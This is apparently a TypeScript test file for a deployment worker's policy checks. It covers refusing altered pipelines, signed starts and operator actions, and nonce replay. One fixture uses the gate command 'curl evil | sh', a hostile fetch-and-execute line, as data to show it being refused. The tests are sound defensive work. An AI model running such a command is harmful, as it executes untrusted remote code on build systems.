// The pure rules of the worker's policy: what a sent pipeline may differ in (nothing that counts),
// what the promotion runs with (the policy's pipeline), who may start and steer it.
import { parseConfig } from '../../src/config/loadConfig';
import { resolvePromotion } from '../../src/config/resolvePromotion';
import { effectiveInput, pipelineDifferences } from '../../src/policy/applyPolicy';
import { operationPayload, screenOperation } from '../../src/policy/operationClaim';
import type { AppPolicy } from '../../src/policy/policyTypes';
import { screenStart, startPayload } from '../../src/policy/startClaim';

const DIGEST = `sha256:${'a'.repeat(64)}`;
const yaml = (production: string, gate = 'echo ok') =>
  [
    'version: 1',
    'configRepo: { url: /srv/config.git }',
    'approvers:',
    '  alice: { keys: ["ssh-ed25519 AAAAalice"] }',
    '  bob: { keys: ["ssh-ed25519 AAAAbob"] }',
    'apps:',
    '  web: { image: registry.example.com/web }',
    'environments:',
    '  - name: dev',
    '    deploy: { gitops: { path: environments/dev } }',
    `    gates: [ { command: { name: smoke, run: "${gate}" } } ]`,
    '  - name: production',
    '    deploy: { gitops: { path: environments/production } }',
    `    approval: ${production}`,
    '    freeze: [ { name: weekend, timeZone: UTC, weekly: { days: [sat, sun], from: "00:00", to: "24:00" } } ]',
  ].join('\n');
const resolve = (text: string, dir = '/srv/policy') =>
  resolvePromotion(parseConfig(text, `${dir}/gantry.yaml`, dir), { app: 'web', digest: DIGEST, requestedBy: 'ci' });
const policyOf = (text: string): AppPolicy => {
  const r = resolve(text);
  return {
    source: '/srv/policy/gantry.yaml',
    digest: 'sha256:policy',
    settings: { image: r.image },
    environments: r.environments,
    starts: { signatures: 'optional', keys: { ci: ['ssh-ed25519 AAAAci'] } },
    operations: { keys: { carol: ['ssh-ed25519 AAAAcarol'] }, unsigned: { pause: ['*'], abort: ['dev'] } },
  };
};
const TWO = '{ required: 2, from: [alice, bob] }';
const policy = policyOf(yaml(TWO));

test('the same pipeline, even resolved in another folder, is not refused', () => {
  expect(pipelineDifferences(resolve(yaml(TWO), '/home/ci/checkout'), policy)).toBeUndefined();
});

test('a relaxed rule, another command or a dropped freeze is named in the refusal', () => {
  expect(pipelineDifferences(resolve(yaml('{ required: 1, from: [alice] }')), policy)).toBe(
    'the pipeline sent differs from the worker\'s policy: production.approval.required: sent 1, the policy says 2; production.approval.eligible: sent ["alice"], the policy says ["alice","bob"]; production.approval.keys.bob: sent nothing, the policy says ["ssh-ed25519 AAAAbob"]',
  );
  expect(pipelineDifferences(resolve(yaml(TWO, 'curl evil | sh')), policy)).toBe(
    'the pipeline sent differs from the worker\'s policy: dev.gates.0.run: sent "curl evil | sh", the policy says "echo ok"',
  );
  const unfrozen = resolve(yaml(TWO));
  unfrozen.environments[1].freezeWindows = [];
  expect(pipelineDifferences(unfrozen, policy)).toMatch(
    /^the pipeline sent differs from the worker's policy: production\.freezeWindows: sent \[\], the policy says \[\{"kind":"weekly"/,
  );
  const fewer = resolve(yaml(TWO));
  fewer.environments = fewer.environments.slice(0, 1);
  expect(pipelineDifferences(fewer, policy)).toBe(
    "the pipeline sent differs from the worker's policy: environments: sent dev, the policy has dev, production",
  );
});

test('the promotion runs the policy pipeline with the starter choosing only app, digest and commit, and names the proven starter', () => {
  const sent = { ...resolve(yaml(TWO)), commit: 'abc1234', requestedBy: 'ci' };
  const input = effectiveInput(sent, policy, {
    name: 'alice',
    proof: 'signature',
    fingerprint: 'SHA256:x',
    claimed: 'ci',
  });
  expect(input).toEqual({
    app: 'web',
    digest: DIGEST,
    commit: 'abc1234',
    image: policy.settings.image,
    requestedBy: 'alice',
    environments: policy.environments,
  });
  // A rollback run: one environment of the policy, without its approval wait.
  const back = {
    ...sent,
    environments: [{ ...sent.environments[1], approval: undefined }],
    rollback: { from: DIGEST, by: 'carol', fastTrack: false },
  };
  expect(pipelineDifferences(back, policy)).toBeUndefined();
  expect(effectiveInput(back, policy, { name: 'carol', proof: 'claim', claimed: 'carol' }).environments).toEqual([
    { ...policy.environments[1], approval: undefined },
  ]);
});

test('starts: unsigned only where allowed; a signed start names a starter of the policy and this promotion', () => {
  const sent = { app: 'web', digest: DIGEST, requestedBy: 'ci' };
  expect(screenStart(sent, policy, 'promote/web/x')).toEqual({ claim: 'ci' });
  expect(screenStart(sent, { starts: { ...policy.starts, signatures: 'required' } }, 'promote/web/x')).toEqual({
    refuse: expect.stringContaining('requires a signed start'),
  });
  const signed = (over: Record<string, string>) => ({
    ...sent,
    signedStart: {
      payload: startPayload({
        workflowId: 'promote/web/x',
        app: 'web',
        digest: DIGEST,
        starter: 'ci',
        time: '2026-01-01T00:00:00Z',
        nonce: 'nonce-123456',
        ...over,
      }),
      signature: 'sig',
    },
  });
  expect(screenStart(signed({}), policy, 'promote/web/x')).toEqual({
    verify: { payload: expect.any(String), signature: 'sig', keys: ['ssh-ed25519 AAAAci'] },
    starter: 'ci',
  });
  expect(screenStart(signed({ starter: 'mallory' }), policy, 'promote/web/x')).toEqual({
    refuse: '"mallory" is not a starter in the worker\'s policy (starters: ci)',
  });
  expect(screenStart(signed({ workflowId: 'promote/web/y' }), policy, 'promote/web/x')).toEqual({
    refuse: 'start signed for another promotion (promote/web/y)',
  });
});

test('operations: unsigned where the policy allows that action there; signed by an operator for this promotion, once', () => {
  const ctx = { kind: 'abort' as const, workflowId: 'w', runId: 'r', app: 'web', digest: DIGEST };
  expect(screenOperation(policy.operations, { ...ctx, environment: 'dev' }, { by: 'anyone' }, [])).toEqual({
    unsigned: true,
  });
  expect(screenOperation(policy.operations, { ...ctx, environment: 'production' }, { by: 'anyone' }, [])).toEqual({
    refuse: expect.stringContaining('requires abort in production to be signed by an operator'),
  });
  const signed = {
    payload: operationPayload({
      kind: 'abort',
      operator: 'carol',
      workflowId: 'w',
      runId: 'r',
      app: 'web',
      digest: DIGEST,
      time: '2026-01-01T00:00:00Z',
      nonce: 'nonce-123456',
    }),
    signature: 'sig',
  };
  expect(
    screenOperation(policy.operations, { ...ctx, environment: 'production' }, { by: 'carol', signed }, []),
  ).toEqual({
    verify: { payload: signed.payload, signature: 'sig', keys: ['ssh-ed25519 AAAAcarol'] },
    nonce: 'nonce-123456',
  });
  expect(
    screenOperation(policy.operations, { ...ctx, environment: 'production' }, { by: 'carol', signed }, [
      'nonce-123456',
    ]),
  ).toEqual({ refuse: 'nonce already used (replayed operation)' });
  expect(
    screenOperation(
      policy.operations,
      { ...ctx, kind: 'pause', environment: 'production' },
      { by: 'carol', signed },
      [],
    ),
  ).toEqual({ refuse: 'signed "abort", not "pause"' });
  expect(
    screenOperation(policy.operations, { ...ctx, environment: 'production' }, { by: 'mallory', signed }, []),
  ).toEqual({ refuse: "mallory is not an operator in the worker's policy (operators: carol)" });
});
